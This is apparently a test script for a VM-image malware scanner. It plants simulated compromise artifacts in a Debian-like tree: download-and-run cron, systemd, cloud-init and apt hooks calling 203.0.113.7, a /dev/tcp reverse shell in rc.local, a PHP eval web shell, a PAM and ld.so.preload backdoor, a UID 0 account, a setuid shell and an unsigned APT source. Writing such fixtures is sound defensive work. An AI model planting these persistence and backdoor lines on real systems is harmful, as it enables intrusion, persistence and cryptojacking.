#!/bin/bash
# SPDX-License-Identifier: BSD-3-Clause
# Plant the payloads of published malicious images into the root of a
# Debian-like tree: a miner with its cron and systemd starters, a
# reverse shell in rc.local, a download-and-run login script, an
# ld.so.preload hook, a PAM module no package owns, a second UID 0
# account, password-less sudo, extra SSH keys, a widened sshd_config,
# AWS keys, an SSH private key and a token left behind, a setuid shell, a
# file capability, an executable with a document's name, a modified
# packaged binary, an unowned binary in /usr/bin, a PHP web shell, a
# kernel module no package owns loaded at boot, a modprobe.d install
# command that downloads and runs, a kernel command line that runs
# another init, an APT source trusted without signatures, an apt hook
# that downloads and runs, /etc/hosts sending the Debian mirrors
# elsewhere, and first-boot payloads for cloud-init: a drop-in that
# downloads and runs, a NoCloud seed that adds a sudo account with the
# attacker's key, and a per-boot script that starts the miner.
# Nothing here is live malware (see make-planted.sh).
#
# Usage: tests/plant-payloads.sh ROOT OUTDIR
#
# ROOT must have etc/passwd, etc/shadow, etc/pam.d/common-auth,
# usr/bin/id, usr/bin/bash and the libraries named below.  Writes into
# OUTDIR: planted.expect ("CATEGORY<TAB>MIN_SEVERITY<TAB>PATH<TAB>
# EVIDENCE<TAB>WHAT" per item), planted.ioc, secrets.txt, attacker and
# attacker.pub.

set -eu
export LC_ALL=C
if [ "$#" -ne 2 ]; then
  echo "usage: $0 ROOT OUTDIR" >&2
  exit 2
fi
out=$(cd "$2" && pwd)
cd "$1"
mkdir -p etc/cron.d etc/profile.d etc/sudoers.d etc/ssh/sshd_config.d \
  etc/systemd/system/multi-user.target.wants var/spool/cron/crontabs \
  var/tmp tmp home/admin/.ssh
rm -f "$out/attacker" "$out/attacker.pub"
expect=$out/planted.expect
: > "$expect"
plant () { printf '%s\t%s\t%s\t%s\t%s\n' "$@" >> "$expect"; }

wallet=4Bvmscan$(printf 'TestWa11etNotRea1DoNotSend%.0s' 1 2 3)TestWa11e
miner_dir=var/tmp/.X11-unix
mkdir -p "$miner_dir"
cp /bin/true "$miner_dir/kworker"
printf '\nxmrig/6.20.0 randomx stratum+tcp:// --donate-level %s\n' "$wallet" \
  >> "$miner_dir/kworker"
chmod 0755 "$miner_dir/kworker"
cat > "$miner_dir/config.json" <<JS
{
  "autosave": true,
  "donate-level": 1,
  "cpu": { "enabled": true, "max-threads-hint": 75 },
  "pools": [ { "url": "stratum+tcp://pool.example.net:3333",
               "user": "$wallet", "pass": "x", "keepalive": true } ]
}
JS
plant cryptominer high "/$miner_dir/config.json" "stratum+tcp://pool.example.net:3333" "miner config with pool and wallet"
plant masquerading high "/$miner_dir/kworker" "" "ELF named like a kernel thread in a hidden directory under /var/tmp"

printf 'SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/up.sh | sh\n' \
  > etc/cron.d/sysupdate
plant persistence high /etc/cron.d/sysupdate "curl -fsSL http://203.0.113.7/up.sh | sh" "cron job that downloads and runs a script"
printf '@reboot /%s/kworker -c /%s/config.json >/dev/null 2>&1\n' "$miner_dir" "$miner_dir" \
  > var/spool/cron/crontabs/root
chmod 0600 var/spool/cron/crontabs/root
plant persistence high /var/spool/cron/crontabs/root "kworker" "root crontab starts the miner at boot"

mkdir -p usr/local/bin
cp /bin/true usr/local/bin/dbus-helper
printf '\nstratum+tcp://pool.example.net:3333\n' >> usr/local/bin/dbus-helper
cat > etc/systemd/system/dbus-helper.service <<'UNIT'
[Unit]
Description=D-Bus helper
After=network-online.target

[Service]
ExecStart=/bin/sh -c 'curl -s http://203.0.113.7/k | bash; exec /usr/local/bin/dbus-helper'
Restart=always

[Install]
WantedBy=multi-user.target
UNIT
ln -s /etc/systemd/system/dbus-helper.service \
  etc/systemd/system/multi-user.target.wants/dbus-helper.service
plant persistence high /etc/systemd/system/dbus-helper.service "curl -s http://203.0.113.7/k | bash" "enabled systemd service that downloads and runs"

cat > etc/rc.local <<'RCL'
#!/bin/sh -e
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &
exit 0
RCL
chmod 0755 etc/rc.local
plant persistence high /etc/rc.local "/dev/tcp/203.0.113.7/4444" "reverse shell in rc.local"

printf 'wget -q -O- http://203.0.113.7/p | sh >/dev/null 2>&1 &\n' > etc/profile.d/locale-fix.sh
plant persistence high /etc/profile.d/locale-fix.sh "wget -q -O- http://203.0.113.7/p | sh" "login script downloads and runs"

lib=usr/lib/x86_64-linux-gnu
cp "$lib/libmd.so.0" "$lib/libns2.so"
printf '\nreaddir\n' >> "$lib/libns2.so"
echo "/$lib/libns2.so" > etc/ld.so.preload
plant persistence high /etc/ld.so.preload "/$lib/libns2.so" "library preloaded into every process"

cp "$lib/security/pam_permit.so" "$lib/security/pam_sys.so"
sed -i '1i auth sufficient pam_sys.so' etc/pam.d/common-auth
plant persistence high "/$lib/security/pam_sys.so" "" "PAM module no package owns"

printf 'sysadm:x:0:0::/root:/bin/bash\n' >> etc/passwd
printf 'sysadm::19700:0:99999:7:::\n' >> etc/shadow
plant access critical "" "sysadm" "second account with UID 0"

printf 'backup ALL=(ALL) NOPASSWD: ALL\n' > etc/sudoers.d/90-backup
chmod 0440 etc/sudoers.d/90-backup
plant access high /etc/sudoers.d/90-backup "NOPASSWD" "password-less sudo for all commands"

ssh-keygen -q -t ed25519 -N '' -C 'attacker@203.0.113.7' -f "$out/attacker" 
mkdir -p root/.ssh
chmod 0700 root/.ssh
cp "$out/attacker.pub" root/.ssh/authorized_keys
fp=$(ssh-keygen -lf "$out/attacker.pub" | awk '{print $2}')
plant access high /root/.ssh/authorized_keys "$fp" "extra SSH key for root"
cat "$out/attacker.pub" >> home/admin/.ssh/authorized_keys
plant access medium /home/admin/.ssh/authorized_keys "$fp" "SSH key baked into a published image"

printf 'PermitRootLogin yes\nPasswordAuthentication yes\n' > etc/ssh/sshd_config.d/00-access.conf
plant access medium /etc/ssh/sshd_config.d/00-access.conf "PermitRootLogin yes" "root may log in with a password"

# First boot: what cloud-init would do when the image is launched.
mkdir -p etc/cloud/cloud.cfg.d var/lib/cloud/seed/nocloud \
  var/lib/cloud/scripts/per-boot
cat > etc/cloud/cloud.cfg.d/99-sysupdate.cfg <<'CFG'
# keep the instance patched
runcmd:
  - curl -fsSL http://203.0.113.7/ci.sh | sh
CFG
plant persistence high /etc/cloud/cloud.cfg.d/99-sysupdate.cfg "runcmd: curl -fsSL http://203.0.113.7/ci.sh | sh" "cloud-init drop-in that downloads and runs at first boot"
{
  printf '#cloud-config\nusers:\n  - default\n  - name: deploy\n'
  printf '    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys:\n'
  printf '      - %s\n' "$(cat "$out/attacker.pub")"
} > var/lib/cloud/seed/nocloud/user-data
printf 'instance-id: iid-local01\n' > var/lib/cloud/seed/nocloud/meta-data
plant persistence high /var/lib/cloud/seed/nocloud/user-data "deploy; sudo: ALL=(ALL) NOPASSWD:ALL" "NoCloud seed adds a sudo account with an SSH key"
printf '#!/bin/sh\nnohup /%s/kworker -c /%s/config.json >/dev/null 2>&1 &\n' \
  "$miner_dir" "$miner_dir" > var/lib/cloud/scripts/per-boot/00-net
chmod 0755 var/lib/cloud/scripts/per-boot/00-net
plant persistence high /var/lib/cloud/scripts/per-boot/00-net "kworker" "cloud-init per-boot script starts the miner"

mkdir -p home/admin/.aws
akid=AKIAIOSFODNN7EXAMPLE
secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' \
  "$akid" "$secret" > home/admin/.aws/credentials
plant secret high /home/admin/.aws/credentials "" "AWS access key left in the image"
rm -f home/admin/.ssh/id_ed25519 home/admin/.ssh/id_ed25519.pub
ssh-keygen -q -t ed25519 -N '' -C 'deploy' -f home/admin/.ssh/id_ed25519
plant secret high /home/admin/.ssh/id_ed25519 "" "unencrypted SSH private key left in the image"
token=ghp_vmscanTestTokenNotReal0123456789abcd
printf 'ls\ngit clone https://admin:%s@github.com/example/app\n' "$token" \
  > home/admin/.bash_history
plant secret medium /home/admin/.bash_history "" "token in a shell history"
chown -R 1000:1000 home/admin
printf '%s\n%s\n%s\n' "$secret" "$token" \
  "$(sed -n 3p home/admin/.ssh/id_ed25519)" > "$out/secrets.txt"

cp usr/bin/bash var/tmp/.bash
chmod 4755 var/tmp/.bash
plant permissions critical /var/tmp/.bash "" "setuid shell in /var/tmp"
cp /bin/true usr/local/bin/pyhelper
setcap cap_setuid=ep usr/local/bin/pyhelper
plant permissions high /usr/local/bin/pyhelper "cap_setuid" "capability to change UID on an unpackaged file"

cp /bin/true tmp/invoice.pdf
chmod 0755 tmp/invoice.pdf
plant masquerading high /tmp/invoice.pdf "" "executable with a document's extension"

printf '\n# patched\n' >> usr/bin/id
plant package high /usr/bin/id "" "packaged binary that differs from the package"
cp /bin/true usr/bin/systemd-journal-helper
plant package medium /usr/bin/systemd-journal-helper "" "executable in /usr/bin that no package owns"

# A kernel module: an object file built now (a relocatable ELF header
# without a compiler), loaded at boot by modules-load.d; a modprobe.d
# install command; init= on the kernel command line.
kmoddir=usr/lib/modules/6.1.0-18-amd64/kernel/drivers/net
mkdir -p "$kmoddir" etc/modules-load.d etc/modprobe.d etc/default/grub.d
ko=$kmoddir/netfilter_hk.ko
printf 'int netfilter_hk_init (void) { return 0; }\n' > "$out/netfilter_hk.c"
if ! "${CC:-cc}" -c -o "$ko" "$out/netfilter_hk.c" 2> /dev/null; then
  printf '\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\1\0\76\0\1\0\0\0' > "$ko"
fi
rm -f "$out/netfilter_hk.c"
plant persistence high "/$ko" "not from a package" "kernel module no package owns"
printf '# netfilter helpers\nnetfilter_hk\n' > etc/modules-load.d/netfilter.conf
plant persistence high /etc/modules-load.d/netfilter.conf "netfilter_hk" "module no package owns loaded at boot"
printf 'install usb-storage /bin/sh -c "curl -s http://203.0.113.7/m | sh"; /sbin/modprobe --ignore-install usb-storage\n' \
  > etc/modprobe.d/usb-storage.conf
plant persistence high /etc/modprobe.d/usb-storage.conf "curl -s http://203.0.113.7/m | sh" "modprobe.d install command that downloads and runs"
printf 'GRUB_CMDLINE_LINUX="$GRUB_CMDLINE_LINUX init=/usr/local/sbin/sysinit"\n' \
  > etc/default/grub.d/50-init.cfg
plant persistence high /etc/default/grub.d/50-init.cfg "init=/usr/local/sbin/sysinit" "kernel command line runs another init"

mkdir -p var/www/html/uploads
printf '<?php @eval(base64_decode($_POST["c"])); ?>\n' > var/www/html/uploads/img.php
plant malware high /var/www/html/uploads/img.php "" "PHP web shell"

mkdir -p etc/apt/sources.list.d etc/apt/apt.conf.d
printf 'deb [trusted=yes] http://203.0.113.7/debian bookworm main\n' \
  > etc/apt/sources.list.d/bookworm-fixes.list
plant supply high /etc/apt/sources.list.d/bookworm-fixes.list "deb [trusted=yes] http://203.0.113.7/debian" "APT source installed without signature checks"
printf 'APT::Update::Pre-Invoke { "wget -q -O- http://203.0.113.7/a | sh"; };\n' \
  > etc/apt/apt.conf.d/99periodic-fix
plant supply high /etc/apt/apt.conf.d/99periodic-fix "wget -q -O- http://203.0.113.7/a | sh" "apt update hook downloads and runs"
printf '203.0.113.7 deb.debian.org security.debian.org\n' >> etc/hosts
plant net high /etc/hosts "203.0.113.7 deb.debian.org" "hosts sends the Debian mirrors to the attacker"

sha=$(sha256sum "$miner_dir/kworker" | awk '{print $1}')
printf '# test feed\nsha256:%s miner-kworker\npath:/var/tmp/**/config.json miner-config\n' \
  "$sha" > "$out/planted.ioc"
plant ioc high "/$miner_dir/kworker" "$sha" "IOC list hash"
plant ioc high "/$miner_dir/config.json" "/var/tmp/**/config.json" "IOC list path pattern"

